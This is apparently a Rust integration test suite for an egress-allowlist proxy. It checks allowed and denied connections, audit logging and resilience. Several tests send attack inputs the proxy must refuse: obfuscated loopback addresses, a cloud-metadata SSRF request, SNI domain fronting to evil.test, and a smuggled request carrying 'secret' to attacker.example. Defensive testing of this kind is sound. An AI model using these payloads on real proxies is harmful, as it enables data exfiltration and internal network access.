//! Black-box tests of `secureops proxy`: the real binary, real clients,
//! real sockets. Every refusal also proves the negative on a canary.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use std::io::{Read, Write};
use std::net::TcpStream;
use std::process::Command;
use std::time::{Duration, Instant};

use support::*;

/// Allowlist + static names, all on loopback (listed as private destination).
fn config(extra: &str) -> String {
    format!(
        r#"
[network]
egress_allowlist = ["allowed.test:*", "web.test:*", "127.0.0.1:*"]
private_destinations = ["127.0.0.0/8"]
[dns]
upstream = []
hosts = {{ "allowed.test" = ["127.0.0.1"], "web.test" = ["127.0.0.1"], "denied.test" = ["127.0.0.1"], "evil.test" = ["127.0.0.1"] }}
{extra}
"#
    )
}

#[test]
fn connect_to_allowed_tls_origin_gets_the_body() {
    let origin = TlsOrigin::start(&["allowed.test"]);
    let proxy = Proxy::start(&config(""));
    let url = format!("https://allowed.test:{}/", origin.port());
    let (status, body) = curl(&proxy, &["--cacert", origin.ca_path.to_str().unwrap(), &url]);
    assert_eq!(status, 200, "{body}");
    assert_eq!(body, "hello from allowed.test\n");
    let entries = proxy.wait_decisions(1);
    assert_eq!(entries.len(), 1);
    assert_eq!(entries[0]["decision"], "allow");
    assert_eq!(entries[0]["via"], "connect");
    assert_eq!(entries[0]["host"], "allowed.test");
    assert_eq!(entries[0]["port"], origin.port());
}

#[test]
fn connect_to_denied_host_is_403_and_canary_sees_nothing() {
    let canary = Canary::start();
    let proxy = Proxy::start(&config(""));
    let (status, _) = curl(&proxy, &[&format!("https://denied.test:{}/", canary.port())]);
    assert_eq!(status, 403);
    // The refusal body names the reason.
    let reply = raw_exchange(
        proxy.addr,
        format!(
            "CONNECT denied.test:{} HTTP/1.1\r\nHost: denied.test\r\n\r\n",
            canary.port()
        )
        .as_bytes(),
        Duration::from_secs(5),
    );
    assert!(reply.starts_with("HTTP/1.1 403 Forbidden\r\n"), "{reply}");
    assert!(reply.contains("not in the egress allowlist"), "{reply}");
    canary.assert_untouched();
    let entries = proxy.wait_decisions(2);
    assert_eq!(entries.len(), 2);
    assert!(
        entries
            .iter()
            .all(|e| e["decision"] == "deny" && e["host"] == "denied.test" && e["status"] == 403)
    );
}

#[test]
fn http_1_0_connect_works_too() {
    let origin = HttpOrigin::start();
    let proxy = Proxy::start(&config(""));
    let mut s = TcpStream::connect(proxy.addr).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    s.write_all(format!("CONNECT web.test:{} HTTP/1.0\r\n\r\n", origin.port()).as_bytes())
        .unwrap();
    s.write_all(b"GET / HTTP/1.1\r\nHost: web.test\r\nConnection: close\r\n\r\n")
        .unwrap();
    let mut out = String::new();
    let _ = s.read_to_string(&mut out);
    assert!(
        out.starts_with("HTTP/1.1 200 Connection established\r\n\r\nHTTP/1.1 200 OK"),
        "{out}"
    );
    assert!(out.contains("host=web.test"), "{out}");
}

#[test]
fn plain_http_bodies_arrive_whole_both_ways() {
    // Small bodies go out in the same write as their head, larger ones in
    // part: every size must arrive byte for byte, request and response.
    let origin = HttpOrigin::start();
    let proxy = Proxy::start(&config(""));
    let dir = tempfile::tempdir().unwrap();
    for size in [1usize, 5_000, 16 * 1024 + 7, 300_000] {
        let body: String = (0..size)
            .map(|i| char::from(b'a' + ((i * 7 + i / 26) % 26) as u8))
            .collect();
        let file = dir.path().join(format!("body{size}"));
        std::fs::write(&file, &body).unwrap();
        let url = format!("http://web.test:{}/p{size}", origin.port());
        let data = format!("@{}", file.display());
        let (status, out) = curl(&proxy, &["--data-binary", &data, &url]);
        assert_eq!(status, 200, "{size}");
        let expected = format!(
            "line=POST /p{size} HTTP/1.1\nhost=web.test:{}\nbody={body}\n",
            origin.port()
        );
        assert_eq!(out.len(), expected.len(), "size {size}");
        assert!(out == expected, "size {size}: bodies differ");
    }
}

#[test]
fn open_file_limit_is_raised_to_the_hard_limit() {
    // A soft limit of 256 would cap the proxy at ~120 tunnels.
    let dir = tempfile::tempdir().unwrap();
    let proxy = Proxy::start_through(dir.path(), &config(""), &["prlimit", "--nofile=256:"]);
    let limits = std::fs::read_to_string(format!("/proc/{}/limits", proxy.child.id())).unwrap();
    let line = limits.lines().find(|l| l.starts_with("Max open files")).unwrap();
    let numbers: Vec<&str> = line.split_whitespace().skip(3).take(2).collect();
    assert_eq!(numbers.len(), 2, "{line}");
    assert_ne!(numbers[0], "256", "{line}");
    assert_eq!(numbers[0], numbers[1], "soft limit not raised to the hard one: {line}");
}

#[test]
fn plain_http_allowed_and_denied() {
    let origin = HttpOrigin::start();
    let canary = Canary::start();
    let proxy = Proxy::start(&config(""));
    let (status, body) = curl(&proxy, &[&format!("http://web.test:{}/path?q=1", origin.port())]);
    assert_eq!(status, 200, "{body}");
    assert!(
        body.contains("line=GET /path?q=1 HTTP/1.1"),
        "origin-form upstream: {body}"
    );
    assert!(body.contains(&format!("host=web.test:{}", origin.port())), "{body}");
    let (status, body) = curl(&proxy, &[&format!("http://denied.test:{}/", canary.port())]);
    assert_eq!(status, 403, "{body}");
    assert!(body.contains("not in the egress allowlist"), "{body}");
    // A POST with a body to a denied host: nothing of it leaves.
    let (status, _) = curl(
        &proxy,
        &["-d", "secret=1", &format!("http://denied.test:{}/", canary.port())],
    );
    assert_eq!(status, 403);
    canary.assert_untouched();
    let entries = proxy.wait_decisions(3);
    let verdicts: Vec<_> = entries
        .iter()
        .map(|e| (e["decision"].as_str().unwrap(), e["via"].as_str().unwrap()))
        .collect();
    assert_eq!(verdicts, [("allow", "http"), ("deny", "http"), ("deny", "http")]);
}

#[test]
fn keep_alive_requests_are_each_decided_and_host_header_cannot_redirect() {
    let origin = HttpOrigin::start();
    let canary = Canary::start();
    let proxy = Proxy::start(&config(""));
    let mut s = TcpStream::connect(proxy.addr).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    // First request: allowed URL, but a Host header naming the canary.
    let req1 = format!(
        "GET http://web.test:{}/one HTTP/1.1\r\nHost: denied.test:{}\r\n\r\n",
        origin.port(),
        canary.port()
    );
    let req2 = format!(
        "GET http://denied.test:{}/two HTTP/1.1\r\nHost: web.test\r\n\r\n",
        canary.port()
    );
    s.write_all(req1.as_bytes()).unwrap();
    s.write_all(req2.as_bytes()).unwrap();
    let mut out = String::new();
    let _ = s.read_to_string(&mut out);
    assert!(out.starts_with("HTTP/1.1 200 OK"), "{out}");
    assert!(out.contains(&format!("host=web.test:{}", origin.port())), "{out}");
    assert!(
        out.contains("HTTP/1.1 403 Forbidden"),
        "second request must be refused: {out}"
    );
    canary.assert_untouched();
    assert_eq!(proxy.wait_decisions(2).len(), 2);
}

#[test]
fn sni_that_differs_from_connect_host_closes_the_tunnel() {
    let canary = Canary::start();
    let origin = TlsOrigin::start(&["allowed.test"]);
    let proxy = Proxy::start(&config(""));
    // Positive control: the matching SNI completes a handshake.
    let ok = openssl(&proxy, &format!("allowed.test:{}", origin.port()), "allowed.test");
    assert!(
        ok.contains("BEGIN CERTIFICATE") || origin.handshakes.load(std::sync::atomic::Ordering::SeqCst) == 1,
        "{ok}"
    );
    // The CONNECT host is allowed, the SNI names another host: refused
    // before the upstream (here the canary) sees a byte.
    let out = openssl(&proxy, &format!("allowed.test:{}", canary.port()), "evil.test");
    assert!(!out.contains("BEGIN CERTIFICATE"), "{out}");
    assert_eq!(canary.bytes(), 0, "upstream saw bytes of a fronted ClientHello");
    let entries = proxy.wait_decisions(2);
    let last = entries.last().unwrap();
    assert_eq!(last["decision"], "deny");
    assert!(last["reason"].as_str().unwrap().contains("SNI"), "{last}");
    assert_eq!(entries.len(), 2);
}

fn openssl(proxy: &Proxy, connect: &str, sni: &str) -> String {
    let out = Command::new("timeout")
        .args([
            "10",
            "openssl",
            "s_client",
            "-proxy",
            &proxy.addr.to_string(),
            "-connect",
            connect,
            "-servername",
            sni,
        ])
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

/// Reads from `s` until `done` says the bytes so far are enough.
fn read_until(s: &mut TcpStream, done: impl Fn(&[u8]) -> bool) -> Vec<u8> {
    let mut got = Vec::new();
    let mut buf = [0u8; 256];
    while !done(&got) {
        let n = s.read(&mut buf).unwrap();
        assert!(n > 0, "closed early: {}", String::from_utf8_lossy(&got));
        got.extend_from_slice(&buf[..n]);
    }
    got
}

#[test]
fn server_speaks_first_through_an_allowed_tunnel() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        let (mut s, _) = listener.accept().unwrap();
        s.write_all(b"SSH-2.0-OpenSSH_9.2 banner\r\n").unwrap();
        let mut buf = [0u8; 64];
        let n = s.read(&mut buf).unwrap();
        s.write_all(&buf[..n]).unwrap();
    });
    let proxy = Proxy::start(&config(""));
    let mut s = TcpStream::connect(proxy.addr).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    s.write_all(format!("CONNECT allowed.test:{port} HTTP/1.1\r\n\r\n").as_bytes())
        .unwrap();
    let got = read_until(&mut s, |got| String::from_utf8_lossy(got).contains("banner\r\n"));
    assert!(String::from_utf8_lossy(&got).starts_with("HTTP/1.1 200"));
    s.write_all(b"SSH-2.0-client\r\n").unwrap();
    let echoed = read_until(&mut s, |got| got.ends_with(b"\r\n"));
    assert_eq!(echoed, b"SSH-2.0-client\r\n");
    assert_eq!(proxy.wait_decisions(1)[0]["decision"], "allow");
}

/// The congestion control of each established TCP socket matching
/// `filter`: the first word of its `ss -tin` info line.
fn congestion_controls(filter: &str) -> Vec<String> {
    let out = Command::new("ss")
        .args(["-tinH", "state", "established", filter])
        .output()
        .expect("ss (iproute2) runs");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter(|l| l.starts_with(char::is_whitespace))
        .filter_map(|l| l.split_whitespace().next().map(str::to_owned))
        .collect()
}

#[test]
fn the_proxys_loopback_hops_are_not_paced() {
    // Both of the proxy's sockets of a tunnel to a loopback upstream: the
    // accepted client socket and its own upstream socket. (On a host whose
    // default is BBR, this fails without the switch.)
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let (peer_tx, peer_rx) = std::sync::mpsc::channel();
    let upstream = std::thread::spawn(move || {
        let (mut s, peer) = listener.accept().unwrap();
        peer_tx.send(peer.port()).unwrap();
        let mut buf = [0u8; 64];
        let n = s.read(&mut buf).unwrap();
        s.write_all(&buf[..n]).unwrap();
        // Held open until the test has looked.
        let _ = s.read(&mut buf);
    });
    let proxy = Proxy::start(&config(""));
    let mut s = TcpStream::connect(proxy.addr).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    s.write_all(format!("CONNECT allowed.test:{port} HTTP/1.1\r\n\r\nping").as_bytes())
        .unwrap();
    read_until(&mut s, |got| got.ends_with(b"ping"));
    let client_port = s.local_addr().unwrap().port();
    let upstream_port = peer_rx.recv_timeout(Duration::from_secs(5)).unwrap();
    let accepted = congestion_controls(&format!("sport = :{} and dport = :{client_port}", proxy.addr.port()));
    let outbound = congestion_controls(&format!("sport = :{upstream_port} and dport = :{port}"));
    assert_eq!((accepted.len(), outbound.len()), (1, 1), "{accepted:?} {outbound:?}");
    for cc in accepted.iter().chain(&outbound) {
        assert!(!cc.starts_with("bbr"), "the proxy's loopback socket uses {cc}");
    }
    drop(s);
    upstream.join().unwrap();
}

#[test]
fn allowed_name_resolving_to_loopback_is_refused_unless_listed() {
    let canary = Canary::start();
    let proxy = Proxy::start(
        r#"
[network]
egress_allowlist = ["allowed.test:*", "169.254.169.254:*"]
[dns]
upstream = []
hosts = { "allowed.test" = ["127.0.0.1"] }
"#,
    );
    let reply = raw_exchange(
        proxy.addr,
        format!("CONNECT allowed.test:{} HTTP/1.1\r\n\r\n", canary.port()).as_bytes(),
        Duration::from_secs(5),
    );
    assert!(reply.starts_with("HTTP/1.1 403"), "{reply}");
    assert!(reply.contains("loopback"), "{reply}");
    let (status, body) = curl(&proxy, &["http://169.254.169.254/latest/meta-data/"]);
    assert_eq!(status, 403);
    assert!(body.contains("link-local"), "{body}");
    canary.assert_untouched();
}

#[test]
fn numeric_host_tricks_are_refused() {
    let canary = Canary::start();
    let origin = HttpOrigin::start();
    let proxy = Proxy::start(&config(""));
    // Positive control: the canonical form of the same address is allowed.
    let reply = raw_exchange(
        proxy.addr,
        format!(
            "GET http://127.0.0.1:{}/ HTTP/1.1\r\nConnection: close\r\n\r\n",
            origin.port()
        )
        .as_bytes(),
        Duration::from_secs(5),
    );
    assert!(reply.starts_with("HTTP/1.1 200"), "{reply}");
    for host in [
        "2130706433",
        "0x7f000001",
        "0177.0.0.1",
        "127.1",
        "0x7f.1",
        "allowed.test@127.0.0.1",
        "a b.test",
    ] {
        for req in [
            format!("CONNECT {host}:{} HTTP/1.1\r\n\r\n", canary.port()),
            format!("GET http://{host}:{}/ HTTP/1.1\r\n\r\n", canary.port()),
        ] {
            let reply = raw_exchange(proxy.addr, req.as_bytes(), Duration::from_secs(5));
            assert!(
                reply.starts_with("HTTP/1.1 403") || reply.starts_with("HTTP/1.1 400"),
                "{host}: {reply}"
            );
        }
    }
    canary.assert_untouched();
}

#[test]
fn two_hundred_parallel_clients_all_get_through_with_one_entry_each() {
    let origin = TlsOrigin::start(&["allowed.test"]);
    let proxy = Proxy::start(&config(""));
    let url = format!("https://allowed.test:{}/", origin.port());
    let ca = origin.ca_path.to_str().unwrap().to_owned();
    let children: Vec<_> = (0..200)
        .map(|_| {
            Command::new("curl")
                .args(["-sS", "--max-time", "60", "-x", &proxy.url(), "--cacert", &ca, &url])
                .stdout(std::process::Stdio::piped())
                .stderr(std::process::Stdio::piped())
                .spawn()
                .unwrap()
        })
        .collect();
    let mut ok = 0;
    for child in children {
        let out = child.wait_with_output().unwrap();
        if out.status.success() && out.stdout == b"hello from allowed.test\n" {
            ok += 1;
        } else {
            eprintln!("failed: {}", String::from_utf8_lossy(&out.stderr));
        }
    }
    assert_eq!(ok, 200);
    let entries = proxy.wait_decisions(200);
    assert_eq!(entries.len(), 200);
    assert!(entries.iter().all(|e| e["decision"] == "allow"));
}

#[test]
fn bad_clients_are_cut_off_while_a_good_client_is_served() {
    let origin = HttpOrigin::start();
    let proxy = Proxy::start(&config("[proxy]\nlisten = \"127.0.0.1:0\"\nheader_timeout_ms = 1500\n"));
    // Random bytes.
    let junk: Vec<u8> = (0..2048u32)
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
        .collect();
    let reply = raw_exchange(proxy.addr, &junk, Duration::from_secs(5));
    assert!(reply.starts_with("HTTP/1.1 400"), "{reply}");
    // A 64 KiB request line.
    let long = format!("GET http://web.test/{} HTTP/1.1\r\n\r\n", "a".repeat(64 * 1024));
    let mut s = TcpStream::connect(proxy.addr).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    let _ = s.write_all(long.as_bytes());
    let mut reply = Vec::new();
    let _ = s.read_to_end(&mut reply);
    assert!(
        String::from_utf8_lossy(&reply).starts_with("HTTP/1.1 400"),
        "{}",
        String::from_utf8_lossy(&reply)
    );
    // A client that sends one byte per second is cut off at the header
    // timeout, while a good client is served in the meantime.
    let addr = proxy.addr;
    let slow = std::thread::spawn(move || {
        let mut s = TcpStream::connect(addr).unwrap();
        let started = Instant::now();
        for b in b"GET http://web.test/ HTTP/1.1\r\nX: yyyyyyyyyyyyyyyyyyyyyyyyyyyy\r\n\r\n" {
            if s.write_all(&[*b]).is_err() {
                break;
            }
            std::thread::sleep(Duration::from_millis(1000));
            if started.elapsed() > Duration::from_secs(10) {
                break;
            }
        }
        started.elapsed()
    });
    std::thread::sleep(Duration::from_millis(300));
    let (status, body) = curl(&proxy, &[&format!("http://web.test:{}/", origin.port())]);
    assert_eq!(status, 200, "{body}");
    let took = slow.join().unwrap();
    assert!(took < Duration::from_secs(8), "slow client was not cut off ({took:?})");
    let entries = proxy.wait_decisions(4);
    let denies = entries.iter().filter(|e| e["decision"] == "deny").count();
    assert_eq!(denies, 3, "{entries:?}");
}

#[test]
fn over_max_connections_gets_503_and_is_audited() {
    let proxy = Proxy::start(&config(
        "[proxy]\nlisten = \"127.0.0.1:0\"\nmax_connections = 2\nheader_timeout_ms = 5000\n",
    ));
    let hold: Vec<_> = (0..2).map(|_| TcpStream::connect(proxy.addr).unwrap()).collect();
    std::thread::sleep(Duration::from_millis(200));
    let reply = raw_exchange(proxy.addr, b"", Duration::from_secs(5));
    assert!(reply.starts_with("HTTP/1.1 503"), "{reply}");
    assert!(reply.contains("max_connections"), "{reply}");
    drop(hold);
    let entries = proxy.wait_decisions(1);
    assert!(entries.iter().any(|e| e["status"] == 503));
}

#[test]
fn unreachable_allowed_destination_is_502() {
    let port = {
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        l.local_addr().unwrap().port()
    };
    let proxy = Proxy::start(&config(""));
    let reply = raw_exchange(
        proxy.addr,
        format!("CONNECT allowed.test:{port} HTTP/1.1\r\n\r\n").as_bytes(),
        Duration::from_secs(10),
    );
    assert!(reply.starts_with("HTTP/1.1 502"), "{reply}");
    let entries = proxy.wait_decisions(1);
    assert_eq!(entries[0]["decision"], "deny");
    assert_eq!(entries[0]["status"], 502);
}

#[test]
fn sigterm_stops_cleanly_and_the_log_verifies() {
    let origin = HttpOrigin::start();
    let dir = tempfile::tempdir().unwrap();
    let proxy = Proxy::start_at(dir.path(), &config(""));
    let (status, _) = curl(&proxy, &[&format!("http://web.test:{}/", origin.port())]);
    assert_eq!(status, 200);
    let (status, _) = curl(&proxy, &["http://denied.test:1/"]);
    assert_eq!(status, 403);
    let log = proxy.audit_path();
    let status = proxy.stop();
    assert!(status.success(), "{status:?}");
    let out = secureops(&["audit", "verify", log.to_str().unwrap()], dir.path());
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{text}");
    assert!(text.starts_with("ok 4 entries"), "{text}");
    let entries = read_entries(&log);
    assert_eq!(entries.first().unwrap()["kind"], "start");
    assert_eq!(entries.last().unwrap()["kind"], "stop");
}

#[test]
fn audit_write_failure_refuses_until_space_returns() {
    let Some(fs) = SmallFs::mount("audit_write_failure_refuses_until_space_returns") else {
        return;
    };
    let (dir, mnt) = (&fs.dir, &fs.path);
    let origin = HttpOrigin::start();
    let canary = Canary::start();
    let log = mnt.join("audit.jsonl");
    let cfg = config(&format!(
        "[audit]\npath = \"{}\"\nsigning_key = \"{}\"\n",
        log.display(),
        dir.path().join("k.key").display()
    ));
    let proxy = Proxy::start(&cfg);
    let (status, _) = curl(&proxy, &[&format!("http://web.test:{}/", origin.port())]);
    assert_eq!(status, 200);
    let filler = fs.fill();
    let web = format!("http://web.test:{}/", origin.port());
    let first_503 = (0..64).map(|_| curl(&proxy, &[&web]).0).position(|s| s == 503);
    assert!(first_503.is_some(), "appends never failed on a full file system");
    // While the log cannot be written, every request is refused before any
    // upstream connect: the canary sees nothing at all.
    let (status, body) = curl(
        &proxy,
        &["-d", "secret=1", &format!("http://allowed.test:{}/", canary.port())],
    );
    assert_eq!(status, 503, "{body}");
    assert!(body.contains("audit log unavailable"), "{body}");
    let (status, _) = curl(&proxy, &[&format!("https://allowed.test:{}/", canary.port())]);
    assert_eq!(status, 503);
    canary.assert_untouched();
    // Space back: requests work again and the log still verifies.
    std::fs::remove_file(&filler).unwrap();
    let recovered = (0..5).map(|_| curl(&proxy, &[&web]).0).any(|s| s == 200);
    assert!(recovered, "requests did not work again after space was freed");
    let out = secureops(&["audit", "verify", "--open", log.to_str().unwrap()], dir.path());
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stdout));
}

#[test]
fn config_errors_name_file_line_and_column() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("bad.toml");
    std::fs::write(
        &path,
        "[network]\negress_allowlist = [\"ok.test\"]\nallowlist_typo = 1\n",
    )
    .unwrap();
    let out = secureops(&["config", "validate", path.to_str().unwrap()], dir.path());
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("bad.toml:3:1"), "{err}");
    let out = secureops(&["proxy", "-c", path.to_str().unwrap()], dir.path());
    assert_eq!(out.status.code(), Some(2), "proxy refuses a bad config");
    std::fs::write(
        &path,
        "[network]\negress_allowlist = [\n  \"ok.test\",\n  \"*.bad*.test\",\n]\n",
    )
    .unwrap();
    let out = secureops(&["config", "validate", path.to_str().unwrap()], dir.path());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("bad.toml:4:3"), "{err}");
}

#[test]
fn check_prints_the_decision_and_exits_accordingly() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("c.toml");
    std::fs::write(
        &path,
        "[network]\negress_allowlist = [\"github.com\", \"*.example.com:8443\"]\n[dns]\nhosts = { \"github.com\" = [\"10.0.0.1\"] }\n",
    )
    .unwrap();
    let c = path.to_str().unwrap();
    let run = |dest: &str| {
        let out = secureops(&["check", "-c", c, dest], dir.path());
        (
            out.status.code().unwrap(),
            String::from_utf8_lossy(&out.stdout).into_owned(),
        )
    };
    let (code, text) = run("a.b.example.com:8443");
    assert_eq!((code, text.split_whitespace().next()), (0, Some("allow")), "{text}");
    let (code, text) = run("example.com:8443");
    assert_eq!((code, text.split_whitespace().next()), (1, Some("deny")), "{text}");
    let (code, text) = run("github.com");
    assert_eq!(
        (code, text.split_whitespace().next()),
        (1, Some("deny")),
        "static answer is private: {text}"
    );
    let (code, text) = run("2130706433");
    assert_eq!((code, text.split_whitespace().next()), (1, Some("deny")), "{text}");
    let out = secureops(&["check"], dir.path());
    assert_eq!(out.status.code(), Some(2));
    // Built-in default: everything denied.
    let out = secureops(&["check", "github.com"], dir.path());
    assert_eq!(out.status.code(), Some(1));
}

/// A minimal TLS 1.3 ClientHello carrying `sni` (enough for the peek).
fn client_hello(sni: &str) -> Vec<u8> {
    let n = sni.len() as u16;
    let mut ext = Vec::new();
    ext.extend_from_slice(&0u16.to_be_bytes());
    ext.extend_from_slice(&(n + 5).to_be_bytes());
    ext.extend_from_slice(&(n + 3).to_be_bytes());
    ext.push(0);
    ext.extend_from_slice(&n.to_be_bytes());
    ext.extend_from_slice(sni.as_bytes());
    let mut body = vec![3, 3];
    body.extend_from_slice(&[7u8; 32]);
    body.extend_from_slice(&[0, 0, 2, 0x13, 0x01, 1, 0]);
    body.extend_from_slice(&(ext.len() as u16).to_be_bytes());
    body.extend_from_slice(&ext);
    let mut msg = vec![1];
    msg.extend_from_slice(&(body.len() as u32).to_be_bytes()[1..]);
    msg.extend_from_slice(&body);
    let mut rec = vec![0x16, 3, 1];
    rec.extend_from_slice(&(msg.len() as u16).to_be_bytes());
    rec.extend_from_slice(&msg);
    rec
}

#[test]
fn waiting_out_the_peek_window_does_not_skip_the_sni_check() {
    let canary = Canary::start();
    let proxy = Proxy::start(&config(""));
    let mut s = TcpStream::connect(proxy.addr).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    s.write_all(format!("CONNECT allowed.test:{} HTTP/1.1\r\n\r\n", canary.port()).as_bytes())
        .unwrap();
    let mut buf = [0u8; 128];
    let n = s.read(&mut buf).unwrap();
    assert!(String::from_utf8_lossy(&buf[..n]).starts_with("HTTP/1.1 200"));
    // Longer than the 1 s peek window, then a fronted ClientHello.
    std::thread::sleep(Duration::from_millis(1500));
    let _ = s.write_all(&client_hello("evil.test"));
    let mut rest = Vec::new();
    let _ = s.read_to_end(&mut rest);
    assert_eq!(canary.bytes(), 0, "the fronted ClientHello reached the upstream");
    let entries = proxy.wait_decisions(2);
    let last = entries.last().unwrap();
    assert_eq!(last["decision"], "deny", "{entries:?}");
    assert!(last["reason"].as_str().unwrap().contains("SNI"), "{last}");
    // A matching late ClientHello passes (positive control).
    let mut s = TcpStream::connect(proxy.addr).unwrap();
    s.write_all(format!("CONNECT allowed.test:{} HTTP/1.1\r\n\r\n", canary.port()).as_bytes())
        .unwrap();
    let _ = s.read(&mut buf).unwrap();
    std::thread::sleep(Duration::from_millis(1500));
    let hello = client_hello("allowed.test");
    s.write_all(&hello).unwrap();
    let deadline = Instant::now() + Duration::from_secs(5);
    while canary.bytes() < hello.len() as u64 {
        assert!(
            Instant::now() < deadline,
            "the matching ClientHello did not get through"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
}

#[test]
fn a_framing_header_named_in_connection_is_refused() {
    let canary = Canary::start();
    let proxy = Proxy::start(&config(""));
    let smuggled = "POST /c HTTP/1.1\r\nHost: attacker.example\r\nContent-Length: 6\r\n\r\nsecret";
    let req = format!(
        "POST http://allowed.test:{}/ HTTP/1.1\r\nConnection: Content-Length\r\nContent-Length: {}\r\n\r\n{smuggled}",
        canary.port(),
        smuggled.len()
    );
    let reply = raw_exchange(proxy.addr, req.as_bytes(), Duration::from_secs(5));
    assert!(reply.starts_with("HTTP/1.1 400"), "{reply}");
    canary.assert_untouched();
}
